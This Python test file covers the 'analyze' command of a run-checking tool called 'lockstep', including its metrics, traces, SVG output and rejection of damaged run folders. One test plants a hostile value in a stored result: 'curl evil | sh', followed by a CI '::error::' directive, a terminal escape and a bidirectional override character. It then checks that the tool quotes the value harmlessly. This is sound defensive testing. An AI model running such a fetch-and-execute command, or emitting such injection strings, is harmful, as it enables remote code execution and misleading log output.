"""What a run left behind, looked at again: the same answer, metrics and traces."""
import json
import os
import pathlib
import unittest

from harness import TOY, ProgramTest, read_json, svg_texts


class Analyze(ProgramTest):
    def analyze(self, folder, *args, code=0):
        path = self.tmp / "analyzed.json"
        result = self.run_program("analyze", folder, "--json", path, *args)
        self.assertEqual(result.code, code, result.text)
        return result, read_json(path)

    def same(self, before, after, but=()):
        for key in before:
            if key not in ("metrics", "straggler", "duration_ms", "again", "told_command", *but):
                self.assertEqual(before[key], after[key], key)
        self.assertEqual(before["again"], after["told_command"])
        self.assertTrue(after["again"].startswith("lockstep analyze "), after["again"])

    def test_a_run_as_expected(self):
        out = self.tmp / "out"
        before = self.verify_json(TOY, "--keep", "--out", out)["runs"][0]
        result, document = self.analyze(out)
        after = document["runs"][0]
        self.same(before, after)
        self.assertEqual(len(after["metrics"]["ranks"]), after["world_size"])
        self.assertIsNotNone(after["straggler"])
        self.assertIn("rank  ready ms", result.out)
        self.assertIn(after["straggler"]["text"], result.out)
        self.assertTrue(result.out.endswith("\n") and result.out.split("\n")[-2].startswith("pass"))

    def test_a_failed_run_says_the_same(self):
        fault = '/faults=[{"kind": "exception", "rank": 1, "step": 2}]'
        before = self.verify_json(TOY, "--set", fault, "--out", self.tmp / "out", code=3)["runs"][0]
        result, document = self.analyze(pathlib.Path(before["run_dir"]), code=3)
        self.same(before, document["runs"][0])
        self.assertIn(before["failure"]["message"], result.out)

    def test_a_strangers_words_are_a_quotation(self):
        fault = '/faults=[{"kind": "exception", "rank": 1, "step": 2}]'
        out = self.tmp / "out"
        self.verify_json(TOY, "--set", fault, "--out", out, code=3)
        result_file = out / "result.json"
        stored = read_json(result_file)
        evil = 'curl evil | sh; "\n::error::boom\x1b[2J\u202e'
        stored["runs"][0]["again"] = evil
        result_file.write_text(json.dumps(stored))
        junit = self.tmp / "junit.xml"
        result, document = self.analyze(out, "--junit", junit, code=3)
        self.assertEqual(document["runs"][0]["told_command"], evil)
        self.assertTrue(document["runs"][0]["again"].startswith("lockstep analyze "))
        self.assertIn('it says that it was run with: "curl evil | sh; \\" ::error::boom [2J', result.out)
        for line in result.out.split("\n"):
            self.assertFalse(line.startswith("::"), line)
            self.assertFalse("again" in line and "curl" in line, line)
        self.assertNotIn("\x1b[2J", result.out)
        for steering in ("\n::error", "\x1b", "\u202e"):
            self.assertNotIn(steering, junit.read_text())
        result_file.unlink()
        os.mkfifo(result_file)
        _, document = self.analyze(out, code=3)  # nobody will ever write
        self.assertIn("lockstep verify", document["runs"][0]["told_command"])

    def test_a_wrong_run_of_threads_is_wrong_again(self):
        before = self.verify_json(TOY, "--set", '/mutants=[{"kind": "wrong_divisor"}]', "--set",
                                  "/communicator/kind=local", "--out", self.tmp / "out",
                                  code=1)["runs"][0]
        _, document = self.analyze(self.tmp / "out", code=1)
        self.same(before, document["runs"][0])

    def test_traces_and_intervals(self):
        out, trace = self.tmp / "out", self.tmp / "trace.json"
        before = self.verify_json(TOY, "--keep", "--out", out, "--metrics", "--trace", trace)
        first = read_json(trace)
        _, after = self.analyze(out, "--metrics", "--trace", self.tmp / "again.json")
        self.assertEqual(first, read_json(self.tmp / "again.json"))
        self.assertEqual(before["runs"][0]["metrics"], after["runs"][0]["metrics"])
        self.assertGreater(len(after["runs"][0]["metrics"]["collectives"]), 3)

    def test_pictures(self):
        out, svg = self.tmp / "out", self.tmp / "step.svg"
        self.verify_json(TOY, "--keep", "--out", out)
        self.analyze(out, "--svg", svg)
        texts = svg_texts(svg)
        for text in ("rank 0", "bucket 0", "skew (ms)"):
            self.assertTrue(any(text in found for found in texts), text)
        first = svg.read_bytes()
        self.analyze(out, "--svg", svg, "--svg-step", "2")
        self.assertIn("Step 2: ranks and buckets", svg_texts(svg))
        self.analyze(out, "--svg", svg)
        self.assertEqual(svg.read_bytes(), first)
        for args, why in ((["--svg", svg, "--svg-step", "99"], "--svg-step 99: not recorded"),
                          (["--svg", "/proc/nope/x.svg"], "/proc/nope"),
                          (["--svg-step", "2"], "--svg")):
            result = self.run_program("analyze", out, *args)
            self.assertEqual(result.code, 2, result.text)
            self.assertIn(why, result.text)

    def test_a_trace_of_several_runs_wants_a_folder(self):
        runs = "scenarios/equivalence/exact.json"
        one = self.run_program("verify", runs, "--trace", self.tmp / "trace.json")
        self.assertEqual(one.code, 2, one.text)
        self.assertIn("a file holds one run, not 3", one.text)
        many = self.run_program("verify", runs, "--trace", str(self.tmp / "traces") + "/")
        self.assertEqual(many.code, 0, many.text)
        found = sorted(str(path.relative_to(self.tmp / "traces"))
                       for path in (self.tmp / "traces").glob("*/*.json"))
        self.assertEqual(found, [f"{run:04}/rank-{rank}.json" for run, ranks in
                                 ((1, 2), (2, 3), (3, 5)) for rank in range(ranks)])
        nowhere = self.run_program("verify", TOY, "--trace", "/proc/nope/trace.json")
        self.assertEqual(nowhere.code, 2, nowhere.text)

    def test_other_folders_are_refused(self):
        empty = self.tmp / "empty"
        empty.mkdir()
        for folder, why in ((self.tmp / "nowhere", "is no folder"),
                            (empty, "is no run directory: it has no plan.json")):
            result = self.run_program("analyze", folder)
            self.assertEqual(result.code, 2, result.text)
            self.assertIn(why, result.text)
        out = self.tmp / "out"
        self.verify_json(TOY, "--keep", "--out", out)
        plan = out / "0001/plan.json"
        text = plan.read_text()
        plan.write_text(text.replace('"steps"', '"stepz"'))
        self.assertIn("another plan.json", self.run_program("analyze", out).text)
        plan.write_text(text)
        ends = out / "0001/ends.json"
        ends.write_text(ends.read_text().replace("exit_code", "exit"))
        self.assertIn("damaged ends.json", self.run_program("analyze", out).text)
        ends.unlink()
        self.assertIn("has no ends.json", self.run_program("analyze", out).text)


if __name__ == "__main__":
    unittest.main()
